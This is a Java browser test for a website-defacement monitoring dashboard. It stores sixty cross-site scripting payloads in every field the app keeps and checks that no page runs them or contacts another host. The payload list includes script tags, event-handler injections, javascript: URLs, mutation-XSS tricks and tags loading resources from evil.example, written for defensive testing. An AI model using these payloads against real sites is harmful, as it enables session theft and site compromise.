package vn.vonggac.web;

import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.options.ColorScheme;
import io.micronaut.context.BeanContext;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import vn.vonggac.detect.Family;
import vn.vonggac.detect.Finding;
import vn.vonggac.detect.Severity;
import vn.vonggac.detect.Verdict;
import vn.vonggac.fetch.Header;
import vn.vonggac.incident.Attachments;
import vn.vonggac.incident.Enclosure;
import vn.vonggac.incident.Exhibit;
import vn.vonggac.incident.Handling;
import vn.vonggac.incident.Incidents;
import vn.vonggac.incident.Sighting;
import vn.vonggac.incident.Silence.Matcher;
import vn.vonggac.incident.Silences;
import vn.vonggac.page.Baselines;
import vn.vonggac.page.Brought;
import vn.vonggac.page.Copies;
import vn.vonggac.page.PageReader;
import vn.vonggac.page.PageSource;
import vn.vonggac.page.Place;
import vn.vonggac.portal.Outcome;
import vn.vonggac.portal.Scope;
import vn.vonggac.watch.KnownSite;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Whatever a portal says of itself, in whichever field it can put words into, runs nothing and asks for nothing on the
 * pages of the desk: sixty attempts, every page that shows them, a real browser that reports what its policy stopped.
 */
class StoredScriptBrowserTest {

    /** Each calls {@code pwned} or asks another host, if anything takes it for more than text. */
    private static final List<String> VECTORS = List.of("<script>pwned()</script>",
            "<script src=//evil.example/x.js></script>", "<img src=x onerror=pwned()>",
            "<img src=//evil.example/x.png>", "<svg onload=pwned()>", "<svg><script>pwned()</script></svg>",
            "<body onload=pwned()>", "<iframe src=javascript:pwned()></iframe>",
            "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
            "<object data=//evil.example/x></object>", "<embed src=//evil.example/x>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<style>@import '//evil.example/x.css'</style>",
            "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>",
            "<form action=//evil.example/><button autofocus onfocus=pwned()>x</button></form>",
            "<input autofocus onfocus=pwned()>", "<details open ontoggle=pwned()>x</details>",
            "<video src=x onerror=pwned()></video>", "<audio src=x onerror=pwned()></audio>",
            "<marquee onstart=pwned()>x</marquee>", "<a href=javascript:pwned()>x</a>",
            "javascript:pwned()", "<math><mtext></mtext><script>pwned()</script></math>",
            "<template><script>pwned()</script></template>",
            "<noscript><p title='</noscript><img src=x onerror=pwned()>'></noscript>",
            "<div style=background:url(//evil.example/x)>x</div>",
            "<div hx-get=//evil.example/x hx-trigger=load>x</div>",
            "<div data-live=//evil.example/live data-piece=x>x</div>",
            "{0}${7*7}<%= 7*7 %>&lt;script&gt;pwned()&lt;/script&gt;\u202e\u0007");

    /** As it is, and after everything it could stand in was ended. */
    private static final List<String> PAYLOADS = Stream.concat(VECTORS.stream(),
            VECTORS.stream().map(vector -> "\"'></textarea></title></script></style>-->" + vector)).toList();

    private static final int APIECE = 5;
    private static final Pattern PORTAL_HOME = Pattern.compile("https://xa\\d+\\.binhminh\\.example/");
    private static final List<String> PAGES = new ArrayList<>();
    private static final Instant AT = Instant.parse("2025-12-24T00:00:00Z");

    @AutoClose
    private static final RunningDesk desk = RunningDesk.furnished();
    @AutoClose
    private static final Chromium chromium = new Chromium();

    @BeforeAll
    static void start() {
        for (int portal = 1; portal <= PAYLOADS.size() / APIECE; portal++) {
            plant(portal, PAYLOADS.subList((portal - 1) * APIECE, portal * APIECE));
        }
    }

    private static void plant(int portal, List<String> payloads) {
        String all = String.join(" ", payloads);
        String page = "https://xa" + portal + ".binhminh.example/tin?" + payloads.getFirst();
        keep(portal, page, "2025-12-01T00:00:00Z", "<title>Tin tức</title><p>Hội nghị</p>", false);
        String hash = keep(portal, page, AT.toString(), "<title>" + escaped(all) + "</title><p>"
                + escaped(all) + "</p><a href='https://kubet.example/?" + escaped(payloads.getLast()) + "'>"
                + escaped(all) + "</a>" + all, true);
        List<Finding> findings = new ArrayList<>();
        for (String payload : payloads) {
            findings.add(finding("hidden-link", Family.LINK, payload, List.of("1", payload)));
            findings.add(finding("title-hijack", Family.PLACE, payload, List.of(payload)));
            findings.add(finding("planted-document", Family.WORDS, payload, List.of(payload, payload)));
            findings.add(finding("injected-script", Family.SCRIPT, payload, List.of(payload, payload)));
            findings.add(finding("off-site-redirect", Family.REDIRECT, payload, List.of(payload, payload)));
        }
        Incidents incidents = desk.bean(Incidents.class);
        long id = incidents.observe(new Sighting(Integer.toString(portal), page, AT,
                new Verdict(Verdict.Level.COMPROMISED, 0.98, findings, List.of()), true,
                List.of(new Exhibit(page, AT, "search-engine", 200, hash, page + "\nhttps://x/" + all,
                        "GET / HTTP/1.1\nX-Powered-By: " + all))))
                .getFirst().incident().id();
        incidents.observe(new Sighting(Integer.toString(portal), page, AT, new Verdict(
                Verdict.Level.CLEAN, 0,
                List.of(finding("tls-trouble", Family.POSTURE, all, List.of(all, all))), List.of()),
                true));
        incidents.handle(Scope.EVERYTHING, id,
                incident -> Handling.note(incident, new Handling.Word("an", AT, all)));
        assertThat(desk.bean(Attachments.class).add(Scope.EVERYTHING, id, payloads.stream()
                .map(name -> new Enclosure(name, name.getBytes(StandardCharsets.UTF_8))).toList(), "an"))
                .isInstanceOf(Outcome.Saved.class);
        know(portal, page, all, payloads);
        desk.bean(Silences.class).add(Scope.EVERYTHING, Matcher.ALL.onPortal("60").quoting(
                payloads.getFirst()).planting(payloads.getLast()), all, desk.now().plusSeconds(3600), "an");
    }

    /** What its pages, its server and its baseline say. */
    private static void know(int portal, String page, String all, List<String> payloads) {
        String home = "https://xa" + portal + ".binhminh.example/";
        KnownSite site = new KnownSite(desk.bean(BeanContext.class), portal);
        PAGES.add("/portals/" + portal + "/pages/" + site.page(page, "compromised", 200, AT));
        PAGES.add("/portals/" + portal + "/pages/" + site.page(home, "clean", 200, AT));
        site.server("xa" + portal + payloads.getFirst(), payloads.get(1), payloads, AT, AT,
                new Header("Server", all), new Header("X-Powered-By", payloads.get(2)));
        String html = "<html lang=\"" + quoted(payloads.get(3)) + "\"><title>" + escaped(all)
                + "</title><meta name=generator content=\"" + quoted(all) + "\"><p>Hội nghị</p>"
                + "<a href=\"https://" + quoted(payloads.get(4)) + "\">x</a><form action=\""
                + quoted(payloads.getFirst()) + "\"></form><script src=\"https://"
                + quoted(payloads.get(1)) + "\"></script><iframe src=\"https://" + quoted(payloads.get(2))
                + "\"></iframe>";
        keep(portal, home, "citizen", AT.toString(), html, false);
        desk.bean(Baselines.class).accept(portal, home, new PageReader().read(new PageSource(home,
                html.getBytes(StandardCharsets.UTF_8), Optional.of("text/html; charset=utf-8"), false)));
    }

    private static String quoted(String text) {
        return escaped(text).replace("\"", "&quot;");
    }

    private static Finding finding(String detector, Family family, String payload, List<String> arguments) {
        return new Finding(detector, family, Severity.HIGH, 0.97, "search-engine",
                new Place("html > body > " + payload, 1), payload, "detector." + detector, arguments,
                List.of(payload, "kubet.example"));
    }

    private static String escaped(String text) {
        return text.replace("&", "&amp;").replace("<", "&lt;").replace("'", "&#39;");
    }

    private static String keep(int portal, String page, String at, String html, boolean flagged) {
        return keep(portal, page, "search-engine", at, html, flagged);
    }

    private static String keep(int portal, String page, String view, String at, String html,
            boolean flagged) {
        byte[] bytes = html.getBytes(StandardCharsets.UTF_8);
        Copies copies = desk.bean(Copies.class);
        return copies.keep(copies.lay(new Brought(portal, page, view, Instant.parse(at), bytes,
                "text/html; charset=utf-8", 200, List.of(page), html.hashCode(), flagged,
                flagged ? "suspicious" : "clean", List.of()))).lastHash();
    }

    @Test
    void nothingRunsAndNothingLeaves() {
        assertThat(PAYLOADS).hasSize(60).doesNotHaveDuplicates();
        try (BrowserContext context = chromium.open(new Chromium.Look("vi", ColorScheme.LIGHT, 1280),
                desk.address())) {
            ScriptTrap trap = new ScriptTrap(context, desk.address());
            desk.signIn(trap.page());
            trap.look("/portals/1");
            assertThat(List.of("server", "normal")).allSatisfy(card -> assertThat(
                    trap.page().locator("section[aria-labelledby=" + card + "]").innerText())
                    .contains("pwned"));
            for (String path : paths()) {
                assertThat(trap.look(path)).as(path).allMatch(PORTAL_HOME.asMatchPredicate());
            }
            assertThat(trap.reports()).isEmpty();
        }
    }

    private static Set<String> paths() {
        Set<String> paths = new LinkedHashSet<>(List.of("/", "/incidents", "/incidents?status=quiet",
                "/silences", "/detectors", "/planned", "/audit", "/search?q=hội nghị", "/portals"));
        for (int portal = 1; portal <= PAYLOADS.size() / APIECE; portal++) {
            paths.add("/portals/" + portal);
            paths.add("/portals/" + portal + "/pages");
            paths.add("/incidents/" + (2 * portal - 1));
            paths.add("/incidents/" + 2 * portal);
            paths.add("/incidents/" + (2 * portal - 1) + "/seen/0");
        }
        paths.add("/portals/1/pages?q=" + URLEncoder.encode(PAYLOADS.getLast(), StandardCharsets.UTF_8));
        paths.addAll(PAGES);
        return paths;
    }
}
